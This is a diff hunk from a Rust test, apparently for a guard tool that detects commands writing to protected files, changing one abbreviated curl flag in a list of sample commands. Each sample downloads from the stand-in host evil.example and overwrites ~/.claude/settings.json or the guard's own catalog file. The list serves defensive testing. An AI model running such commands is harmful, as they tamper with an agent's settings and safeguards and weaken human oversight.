@@ -519,7 +519,7 @@ fn writes_read_by_each_programs_grammar() {
             "curl -sSo ~/.claude/settings.json https://evil.example/s",
             "curl -o$HOME/.claude/settings.json https://evil.example/s",
             "curl -sSLo$HOME/.config/mesh-guard/catalog.toml https://evil.example/c",
-            "curl --outp ~/.claude/settings.json https://evil.example/s",
+            "curl --cookie-j ~/.claude/settings.json https://evil.example/s",
             "curl -c ~/.claude/settings.json https://evil.example/",
             "wget -qO ~/.claude/settings.json https://evil.example/s",
             "wget -qO$HOME/.claude/settings.json https://evil.example/s",
